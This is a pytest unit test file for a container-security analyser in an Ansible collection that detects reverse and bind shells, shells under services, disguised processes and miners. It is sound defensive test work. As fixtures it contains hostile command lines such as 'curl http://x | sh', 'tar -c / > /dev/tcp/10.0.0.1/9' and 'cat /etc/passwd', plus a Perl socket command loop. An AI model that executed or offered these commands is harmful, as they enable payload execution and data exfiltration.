# Copyright (c) The cordon.docker authors
# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Who is told of for its place among the processes, and who must not be."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from ansible_collections.cordon.docker.plugins.plugin_utils._analysis.findings import severity_level
from ansible_collections.cordon.docker.tests.unit.plugins.plugin_utils._analysis.build_case import (
    LATER,
    STARTED,
    connection,
    file,
    findings_of,
    grades,
    listener,
    process,
)

SOCKET = {"0": "socket:[55]", "1": "socket:[55]", "2": "socket:[55]"}
JAVA = process(100, 1, "/usr/lib/jvm/bin/java", "java", "-jar", "app.jar", started=STARTED)
EXTERNAL = connection(55, "10.213.7.1", 4444, pid=101)


def test_a_shell_on_a_socket_below_a_service_is_a_reverse_shell(tmp_path: Path) -> None:
    rows = [JAVA, process(101, 100, "/usr/bin/bash", "bash", stdio=SOCKET)]
    found = findings_of(tmp_path, {"processes.jsonl": rows, "sockets.jsonl": [EXTERNAL]})
    assert grades(found) == {"reverse-shell": "critical"}
    assert (
        found[0].sentence
        == "bash (PID 101) runs as a child of java and its input is a network socket to 10.213.7.1:4444."
    )
    assert found[0].technique == "T1059.004"
    assert [(ref.path.rpartition("/")[2], ref.line) for ref in found[0].evidence] == [
        ("processes.jsonl", 2),
        ("sockets.jsonl", 1),
    ]
    assert found[0].next == "ansible web1 -b -m cordon.docker.container_top_info -a containers=shop"


def test_a_shell_on_a_socket_needs_no_service(tmp_path: Path) -> None:
    rows = [process(100, 1, "/usr/bin/sleep"), process(101, 1, "/usr/bin/bash", "bash", stdio=SOCKET)]
    found = findings_of(tmp_path, {"processes.jsonl": rows, "sockets.jsonl": [EXTERNAL]})
    assert grades(found) == {"reverse-shell": "critical"}
    assert found[0].sentence == "bash (PID 101) has as its input a network socket to 10.213.7.1:4444."


def test_a_shell_that_others_connect_to_is_a_bind_shell(tmp_path: Path) -> None:
    rows = [JAVA, process(101, 100, "/usr/bin/dash", "sh", stdio=SOCKET)]
    sockets = [connection(55, "10.9.9.9", 40000, local_port=31337), listener(102, 31337)]
    found = findings_of(tmp_path, {"processes.jsonl": rows, "sockets.jsonl": sockets})
    assert grades(found)["bind-shell"] == "critical"


def test_the_same_shell_seen_again_with_another_pid_is_the_same_finding(tmp_path: Path) -> None:
    ids = set()
    for number, pid in enumerate((101, 999)):
        rows = [JAVA, process(pid, 100, "/usr/bin/bash", "bash", stdio=SOCKET)]
        items = {"processes.jsonl": rows, "sockets.jsonl": [EXTERNAL]}
        ids.add(findings_of(tmp_path / str(number), items)[0].id)
    assert len(ids) == 1


SERVICES = [
    ("/usr/lib/jvm/java-17/bin/java", ["java", "-jar", "app.jar"]),
    ("/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"]),
    ("/usr/local/apache2/bin/httpd", ["httpd", "-DFOREGROUND"]),
    ("/usr/sbin/nginx", ["nginx: worker process"]),
    ("/usr/sbin/php-fpm8.2", ["php-fpm: pool www"]),
    ("/usr/local/bin/node", ["node", "server.js"]),
    ("/usr/lib/postgresql/15/bin/postgres", ["postgres: app shop 10.0.0.3(5) idle"]),
    ("/usr/sbin/mariadbd", ["mariadbd"]),
    ("/usr/sbin/mysqld", ["mysqld"]),
    ("/usr/bin/redis-check-rdb", ["redis-server *:6379"]),
    ("/usr/bin/redis-server", ["redis-server *:6379"]),
    ("/usr/bin/python3.11", ["python3", "/usr/bin/gunicorn", "app:app"]),
    ("/usr/bin/python3.12", ["python3", "manage.py", "runserver"]),
    ("/usr/bin/ruby3.1", ["puma 6.0 (tcp://0.0.0.0:3000)"]),
]


@pytest.mark.parametrize(("exe", "cmdline"), SERVICES)
@pytest.mark.parametrize(
    "child",
    [
        process(102, 101, "/usr/bin/bash", "bash", "-c", "id"),
        process(102, 101, "/bin/busybox", "sh"),
        process(102, 101, "/usr/bin/dash", "sh", "-i"),
        process(102, 101, "/usr/bin/perl", "perl", "-e", "print 1"),
        process(102, 101, "/usr/bin/ncat", "nc", "10.0.0.1", "99"),
    ],
)
def test_a_shell_under_any_service_is_told_of(
    tmp_path: Path, exe: str, cmdline: list[str], child: dict[str, Any]
) -> None:
    rows = [process(100, 1, "/sbin/tini", "tini"), process(101, 100, exe, *cmdline), child]
    assert grades(findings_of(tmp_path, {"processes.jsonl": rows})) == {"shell-under-service": "high"}


def test_what_the_shell_started_is_among_the_evidence(tmp_path: Path) -> None:
    rows = [
        JAVA,
        process(101, 100, "/usr/bin/dash", "sh", "-c", "curl http://x | sh"),
        process(102, 101, "/usr/bin/curl", "curl", "http://x"),
        process(103, 102, "/usr/bin/sleep", "sleep", "9"),
    ]
    found = [f for f in findings_of(tmp_path, {"processes.jsonl": rows}) if "sh (PID" in f.sentence]
    assert {ref.line for ref in found[0].evidence} >= {1, 2, 3}
    assert found[0].sentence == "dash (PID 101) runs as a child of java: `sh -c curl http://x | sh`."


def test_a_shell_below_a_helper_of_the_service_counts(tmp_path: Path) -> None:
    rows = [JAVA, process(101, 100, "/opt/helper"), process(102, 101, "/usr/bin/bash", "bash")]
    found = findings_of(tmp_path, {"processes.jsonl": rows})
    assert found[0].sentence == "bash (PID 102) runs below java: `bash`."


def test_a_program_that_listens_is_a_service(tmp_path: Path) -> None:
    rows = [process(100, 1, "/app/server"), process(101, 100, "/usr/bin/bash", "bash", "-c", "id")]
    items = {"processes.jsonl": rows, "sockets.jsonl": [listener(100, 8080)]}
    assert grades(findings_of(tmp_path, items)) == {"shell-under-service": "high"}


ORDINARY = {
    "an entry point that starts the service": [
        process(100, 1, "/usr/bin/dash", "sh", "-c", "java -jar app.jar"),
        process(101, 100, "/usr/bin/java", "java", "-jar", "app.jar"),
    ],
    "apachectl": [
        process(100, 1, "/usr/bin/dash", "sh", "/usr/sbin/apachectl"),
        process(101, 100, "/usr/sbin/apache2", "/usr/sbin/apache2"),
        process(102, 101, "/usr/sbin/apache2", "/usr/sbin/apache2"),
    ],
    "cron": [
        process(100, 1, "/usr/sbin/cron", "cron", "-f"),
        process(101, 100, "/usr/sbin/cron", "CRON", "-f"),
        process(102, 101, "/usr/bin/dash", "/bin/sh", "-c", "tidy"),
        process(103, 102, "/usr/bin/sleep", "sleep", "40"),
    ],
    "a loop in sh": [
        process(100, 1, "/usr/bin/dash", "sh", "/loop.sh"),
        process(101, 100, "/usr/bin/sleep", "sleep", "60"),
    ],
    "Java with children that are no shells": [
        JAVA,
        process(101, 100, "/usr/bin/gzip", "gzip", "-k", "/tmp/invoice"),
        process(102, 100, "/usr/bin/sleep", "sleep", "10"),
    ],
    "docker exec and health checks, whose parent is outside": [
        JAVA,
        process(101, 7, "/usr/bin/bash", "bash"),
        process(102, 101, "/usr/bin/vim", "vim"),
        process(103, 8, "/usr/bin/dash", "sh", "-c", "curl -f http://localhost"),
        process(104, 103, "/usr/bin/curl", "curl", "-f", "http://localhost"),
    ],
    "SSH into the container": [
        process(100, 1, "/usr/sbin/sshd", "sshd"),
        process(101, 100, "/usr/sbin/sshd", "sshd: root"),
        process(102, 101, "/usr/bin/bash", "-bash"),
    ],
    "workers of the same program": [
        process(100, 1, "/usr/bin/python3.11", "python3", "/usr/bin/gunicorn", "a:b"),
        process(101, 100, "/usr/bin/python3.11", "python3", "/usr/bin/gunicorn", "a:b"),
    ],
    "supervisord": [
        process(100, 1, "/usr/bin/python3.11", "python3", "/usr/bin/supervisord"),
        process(101, 100, "/usr/bin/dash", "sh", "/run.sh"),
    ],
    "a start script below a service manager in node": [
        process(100, 1, "/usr/bin/node", "npm start", started=STARTED),
        process(101, 100, "/usr/bin/dash", "sh", "-c", "node server.js", started=STARTED),
        process(102, 101, "/usr/bin/node", "node", "server.js", started=STARTED),
    ],
    "a python job that answers nobody": [
        process(100, 1, "/usr/bin/python3.11", "python3", "/job.py"),
        process(101, 100, "/usr/bin/dash", "sh", "-c", "df"),
    ],
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_processes_accuse_nobody(tmp_path: Path, name: str) -> None:
    sockets = [listener(100, 22)] if name.startswith(("SSH", "super")) else []
    assert findings_of(tmp_path, {"processes.jsonl": ORDINARY[name], "sockets.jsonl": sockets}) == []


DOUBTFUL = {
    "npm": [process(100, 1, "/usr/bin/node", "npm run build"), process(101, 100, "/usr/bin/dash", "sh")],
    "jenkins": [
        process(100, 1, "/usr/bin/java", "java", "-jar", "/usr/share/jenkins.war"),
        process(101, 100, "/usr/bin/dash", "sh", "-xe", "/tmp/job.sh"),
    ],
    "archiving": [
        process(100, 1, "/usr/bin/postgres", "postgres"),
        process(101, 100, "/usr/bin/postgres", "postgres: archiver archiving 0001"),
        process(102, 101, "/usr/bin/dash", "sh", "-c", "cp 0001 /wal"),
    ],
    "rotated logs": [
        process(100, 1, "/usr/sbin/apache2", "apache2"),
        process(101, 100, "/usr/bin/dash", "sh", "-c", "rotatelogs /x"),
        process(102, 101, "/usr/bin/rotatelogs", "rotatelogs", "/x"),
    ],
    "a download by the service": [JAVA, process(101, 100, "/usr/bin/curl", "curl", "https://x")],
}


@pytest.mark.parametrize("name", DOUBTFUL)
def test_shells_by_trade_are_at_most_low(tmp_path: Path, name: str) -> None:
    found = findings_of(tmp_path, {"processes.jsonl": DOUBTFUL[name]})
    assert [f.severity for f in found if severity_level(f.severity) > 1] == []


def test_also_under_npm_a_shell_on_a_socket_is_critical(tmp_path: Path) -> None:
    rows = [process(100, 1, "/usr/bin/node", "npm"), process(101, 100, "/usr/bin/dash", "sh", stdio=SOCKET)]
    found = findings_of(tmp_path, {"processes.jsonl": rows, "sockets.jsonl": [EXTERNAL]})
    assert grades(found) == {"reverse-shell": "critical"}


def test_a_pair_of_unix_sockets_is_no_network_socket(tmp_path: Path) -> None:
    rows = [process(100, 1, "/usr/bin/sleep"), process(101, 100, "/usr/bin/dash", "sh", stdio=SOCKET)]
    assert findings_of(tmp_path, {"processes.jsonl": rows, "sockets.jsonl": []}) == []


@pytest.mark.parametrize(
    "words",
    [
        ["perl", "-e", "print 1"],
        ["perl", "-MIO::Socket", "-we", "print 1"],
        ["python3", "-u", "-c", "print(1)"],
        ["ruby", "-rsocket", "-e", "p 1"],
        ["bash", "-lc", "id"],
        ["bash"],
    ],
)
def test_what_is_on_the_command_line_is_no_script_of_the_image(tmp_path: Path, words: list[str]) -> None:
    rows = [JAVA, process(101, 100, f"/usr/bin/{words[0]}", *words, cwd="/")]
    assert grades(findings_of(tmp_path, {"processes.jsonl": rows}))["shell-under-service"] == "high"


@pytest.mark.parametrize(
    ("command", "severity"),
    [
        ("gzip -c /data/x > /tmp/x.gz; sleep 20", "low"),
        ("TZ=UTC /usr/bin/convert a.png b.jpg && echo done", "low"),
        ("df -P / | awk 'NR > 1 { print $5 }' > /tmp/disk", "low"),
        ("gzip x; curl http://x | sh", "high"),
        ("echo $(id)", "high"),
        ("echo aGk= | base64 -d", "high"),
        ("tar -c / > /dev/tcp/10.0.0.1/9", "high"),
        ("/tmp/x", "high"),
        ("cat /etc/passwd", "high"),
    ],
)
def test_what_services_have_shells_do(tmp_path: Path, command: str, severity: str) -> None:
    rows = [JAVA, process(101, 100, "/usr/bin/dash", "sh", "-c", command)]
    assert grades(findings_of(tmp_path, {"processes.jsonl": rows})) == {"shell-under-service": severity}


def test_hooks_of_git_are_low(tmp_path: Path) -> None:
    rows = [
        process(100, 1, "/usr/bin/python3.11", "python3", "/srv/hook.py"),
        process(101, 100, "/usr/bin/git", "git", "receive-pack"),
        process(102, 101, "/usr/bin/dash", "/bin/sh", "hooks/post-receive"),
    ]
    items = {"processes.jsonl": rows, "sockets.jsonl": [listener(100, 8080)]}
    assert grades(findings_of(tmp_path, items)) == {"shell-under-service": "low"}


def test_a_script_that_a_service_runs_is_medium_and_one_of_the_image_low(tmp_path: Path) -> None:
    rows = [JAVA, process(101, 100, "/usr/bin/python3.11", "python3", "/opt/report.py")]
    items = {"processes.jsonl": rows, "layer.jsonl": [file("/opt/report.py")]}
    assert grades(findings_of(tmp_path / "late", items)) == {"shell-under-service": "medium"}
    items["layer.jsonl"] = [file("/opt/report.pyc")]
    assert grades(findings_of(tmp_path / "image", items)) == {"shell-under-service": "low"}


@pytest.mark.parametrize(
    ("rows", "sockets", "severity"),
    [
        ([JAVA, process(101, 100, "/usr/bin/bash", "bash")], [connection(1, "10.1.1.1", 443, 101)], "high"),
        ([process(101, 1, "/usr/bin/bash", "bash")], [connection(1, "10.1.1.1", 443, 101)], "high"),
        ([process(101, 1, "/usr/bin/ncat", "nc")], [connection(1, "10.1.1.1", 443, 101)], "medium"),
        ([process(101, 1, "/usr/bin/bash", "bash")], [connection(1, "10.1.1.1", 5432, 101)], "low"),
        ([process(101, 1, "/usr/bin/bash", "bash")], [connection(1, "127.0.0.1", 443, 101)], None),
        (
            [process(101, 1, "/usr/bin/python3.11", "python3", "x.py")],
            [connection(1, "10.1.1.1", 443, 101)],
            None,
        ),
        ([JAVA], [connection(1, "10.1.1.1", 443, 100)], None),
        (
            [process(101, 1, "/usr/bin/perl", "perl", "-MIO::Socket", "-e", "while(<$c>){print $c qx($_)}")],
            [connection(1, "10.1.1.1", 443, 101)],
            "high",
        ),
        (
            [process(101, 1, "/usr/bin/node", "node", "-e", "require('net').connect(1,'x')")],
            [connection(1, "10.1.1.1", 443, 101)],
            "high",
        ),
        (
            [process(101, 1, "/usr/bin/python3.11", "python3", "/tmp/.x.py")],
            [connection(1, "10.1.1.1", 443, 101)],
            "high",
        ),
        (
            [process(101, 1, "/usr/bin/python3.11", "python3", "-c", "import socket; wait()")],
            [connection(1, "10.1.1.1", 5432, 101)],
            "low",
        ),
        (
            [process(101, 1, "/usr/bin/python3.11", "python3", "-c", "import requests; requests.get('x')")],
            [connection(1, "10.1.1.1", 443, 101)],
            None,
        ),
    ],
)
def test_connections_of_shells(
    tmp_path: Path, rows: list[Any], sockets: list[Any], severity: str | None
) -> None:
    found = grades(findings_of(tmp_path, {"processes.jsonl": rows, "sockets.jsonl": sockets}))
    assert found.get("shell-connection") == severity


def test_a_program_dressed_as_a_kernel_thread(tmp_path: Path) -> None:
    rows = [process(100, 1, "/tmp/.x/run", "[kworker/0:1]")]
    assert grades(findings_of(tmp_path, {"processes.jsonl": rows})) == {"disguised-process": "high"}


def test_a_process_that_left_its_control_group(tmp_path: Path) -> None:
    rows = [
        process(100, 1, "/usr/sbin/nginx", in_cgroup=True),
        process(101, 1, "/usr/bin/sleep", in_cgroup=False),
        process(102, 1, "/usr/bin/sleep"),
    ]
    found = findings_of(tmp_path, {"processes.jsonl": rows})
    assert grades(found) == {"outside-cgroup": "medium"}
    assert found[0].sentence.startswith("sleep (PID 101) is in the container but has left its control group")


@pytest.mark.parametrize("cmdline", [["[", "-f", "x", "]"], ["sh", "[x]"], []])
def test_test_is_no_kernel_thread(tmp_path: Path, cmdline: list[str]) -> None:
    rows = [process(100, 1, "/usr/bin/[", *cmdline)]
    assert findings_of(tmp_path, {"processes.jsonl": rows}) == []


@pytest.mark.parametrize(
    "row",
    [
        process(100, 1, "/opt/x", "./x", "-o", "stratum+tcp://pool.example:3333"),
        process(100, 1, "/usr/local/bin/xmrig", "xmrig"),
        process(100, 1, "/opt/x", "x", "--donate-level=1"),
    ],
)
def test_miners(tmp_path: Path, row: dict[str, Any]) -> None:
    assert grades(findings_of(tmp_path, {"processes.jsonl": [row]})) == {"miner": "high"}


def test_processes_that_form_a_loop_end(tmp_path: Path) -> None:
    rows = [
        process(100, 101, "/usr/bin/bash", "bash"),
        process(101, 100, "/usr/bin/bash", "bash"),
        process(102, 102, "/usr/bin/bash", "bash"),
    ]
    assert findings_of(tmp_path, {"processes.jsonl": rows}) == []


def test_names_are_told_in_print(tmp_path: Path) -> None:
    rows = [JAVA, process(101, 100, "/usr/bin/bash", "bash", "\x1b[2J\u202eid", started=LATER)]
    found = findings_of(tmp_path, {"processes.jsonl": rows})
    assert found[0].sentence.isprintable()
    assert "\\x1b[2J\\x202eid" in found[0].sentence
